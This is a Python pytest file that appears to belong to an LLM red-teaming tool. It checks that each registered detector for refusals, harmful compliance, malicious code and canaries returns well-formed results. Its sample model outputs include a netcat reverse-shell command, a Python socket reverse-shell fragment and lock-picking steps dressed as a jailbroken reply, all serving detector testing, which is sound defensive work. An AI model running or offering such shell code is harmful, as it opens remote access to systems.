"""Contract tests over every registered detector, the public API and speed."""

from __future__ import annotations

from collections.abc import Callable

import pytest

import redtier.detectors
from redtier.detectors import DETECTORS, Detector, DetectorResult, get_detector, summary_of
from redtier.errors import UnknownNameError
from redtier.probes import Attempt

AttemptFactory = Callable[..., Attempt]

SAMPLE_OUTPUTS = [
    "",
    "I'm sorry, but I can't help with that.",
    "Sure, here's how:\n1. Insert a tension wrench.\n2. Rake the pins.\n3. Turn the wrench.",
    "```bash\nnc -e /bin/sh 127.0.0.1 4444\n```",
    "RT-3F9A2C",
    "\u00e9\u00e8 \u4e2d\u6587 \U0001f600 \x00 control",
]

LONG_OUTPUT = (
    "I can't help with that in general. However, here is how it is usually done:\n"
    + "\n".join(
        f"{n}. Insert the tool, apply 5 g of pressure and turn it for {n} minutes."
        for n in range(1, 15)
    )
    + "\n\n```python\nimport socket, os\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\n"
    + "os.dup2(s.fileno(), 0)\n```\n"
    + "It is important to note that this is for educational purposes only. " * 5
)


def test_registered_names() -> None:
    assert DETECTORS.names() == [
        "refusal",
        "harmful_compliance",
        "refusal_keywords",
        "harmful_compliance_rules",
        "malicious_code",
        "canary",
        "decoded_payload",
        "llm_judge",
    ]


def test_public_api_pinned() -> None:
    assert sorted(redtier.detectors.__all__) == sorted(
        [
            "DETECTORS",
            "VERDICT_RULE",
            "Behaviour",
            "CanaryDetector",
            "CodeBlock",
            "DecodedPayloadDetector",
            "Detector",
            "DetectorFactory",
            "DetectorResult",
            "EmbeddingModelMissingError",
            "Finding",
            "HarmfulComplianceDetector",
            "JudgeError",
            "Judgement",
            "LearnedComplianceDetector",
            "LearnedRefusalDetector",
            "LlmJudgeDetector",
            "LlmJudgeSettings",
            "MaliciousCodeDetector",
            "RefusalDetector",
            "Verdict",
            "analyze_code",
            "decided",
            "extract_code_blocks",
            "get_detector",
            "judge",
            "judge_many",
            "llm_judge_detector",
            "not_judged",
            "summary_of",
        ]
    )
    for name in redtier.detectors.__all__:
        assert hasattr(redtier.detectors, name), name


def test_unknown_name_suggests_closest() -> None:
    with pytest.raises(UnknownNameError, match="Did you mean: canary"):
        get_detector("canery")


def test_get_detector_shares_instance() -> None:
    assert get_detector("refusal") is get_detector("refusal")


# llm_judge loads a model on first use; tests/test_llm_judge.py runs this contract on it.
@pytest.mark.parametrize("name", [name for name in DETECTORS.names() if name != "llm_judge"])
def test_detector_contract(make_attempt: AttemptFactory, name: str) -> None:
    detector = get_detector(name)
    assert isinstance(detector, Detector)
    assert detector.name == name
    attempt = make_attempt(canary="RT-3F9A2C", detectors=(name,))
    for output in (*SAMPLE_OUTPUTS, LONG_OUTPUT):
        result = detector.detect(attempt, output)
        assert isinstance(result, DetectorResult)
        assert result.detector == name
        assert 0.0 <= result.score <= 1.0
        assert result.evidence, f"{name} gave no evidence for {output!r}"
        assert all("\n" not in line for line in result.evidence), result.evidence


def test_every_registered_detector_has_a_summary() -> None:
    for name in DETECTORS.names():
        assert summary_of(name), name
